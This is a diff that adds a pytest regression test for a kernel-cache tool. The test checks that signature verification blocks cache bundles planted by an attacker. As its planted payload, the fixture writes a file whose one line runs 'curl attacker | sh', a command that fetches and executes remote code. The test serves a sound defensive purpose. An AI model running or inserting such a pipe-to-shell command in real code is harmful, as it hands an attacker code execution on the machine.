@@ -200,3 +200,42 @@ def test_sigterm_to_prebake_kills_its_warmup_child_too(tmp_path, child_path, mon
                 os.kill(child, signal.SIGKILL)
             except ProcessLookupError:
                 pass
+
+
+def compiles(batch_size, input_tokens, output_tokens):
+    """Compiles one kernel of the shape into the Inductor cache ROOT/kcache.env points at."""
+    (Path(os.environ["TORCHINDUCTOR_CACHE_DIR"]) / f"kernel-{batch_size}x{input_tokens}.so").write_bytes(b"\x7fELF")
+
+
+def test_a_signing_prebake_does_not_sign_what_a_store_writer_planted(tmp_path, child_path):
+    """A store writer without the key publishes an unsigned bundle under production's key. prebake
+    restored it into ROOT with no signature check, ran the warmup over it (the planted code in the
+    builder) and published ROOT signed: every pod requiring signatures then restored the planted
+    file. With --signing-key, prebake restores only a bundle that key signed (publish carries no
+    other either); anything else is refused, as a pod refuses it, and the warmup starts cold."""
+    runner = CliRunner()
+    planted = tmp_path / "planted" / "inductor" / "fxgraph"
+    planted.mkdir(parents=True)
+    (planted / "evil.py").write_text("import os; os.system('curl attacker | sh')\n")
+    assert runner.invoke(main, ["publish", "--from", str(tmp_path / "planted"), "--model", "m"],
+                         catch_exceptions=False).exit_code == 0  # fmt: skip
+    assert runner.invoke(main, ["keygen", "ci", "--dir", str(tmp_path / "k")]).exit_code == 0
+    out = prebake(tmp_path, child_path, "test_prebake:compiles", "--signing-key", str(tmp_path / "k" / "ci.key"),
+                  "--json")  # fmt: skip
+    doc = json.loads(out.stdout)
+    assert doc["restore"]["status"] == "error" and "not signed by a trusted key" in doc["restore"]["reason"]
+    assert doc["warmup"]["status"] == "ok" and doc["publish"]["created"]
+    assert not (tmp_path / "A" / "inductor" / "fxgraph" / "evil.py").exists()
+    pod = runner.invoke(main, ["restore", "--into", str(tmp_path / "pod"), "--model", "m", "--trusted-key",
+                               str(tmp_path / "k" / "ci.pub"), "--require-signature", "--strict", "--json"],
+                        catch_exceptions=False)  # fmt: skip
+    assert pod.exit_code == 0, pod.output
+    assert json.loads(pod.stdout)["status"] == "hit"
+    assert (tmp_path / "pod" / "inductor" / "kernel-1x4.so").exists()
+    assert not (tmp_path / "pod" / "inductor" / "fxgraph" / "evil.py").exists()
+    # What the key signed is restored by the next prebake: the warmup starts warm.
+    again = CliRunner().invoke(main, ["prebake", "--root", str(tmp_path / "B"), "--entrypoint", "test_prebake:compiles",
+                                      "--profiles", str(child_path), "--model", "m", "--signing-key",
+                                      str(tmp_path / "k" / "ci.key"), "--json"], catch_exceptions=False)  # fmt: skip
+    assert again.exit_code == 0, again.output
+    assert json.loads(again.stdout)["restore"]["status"] == "hit"
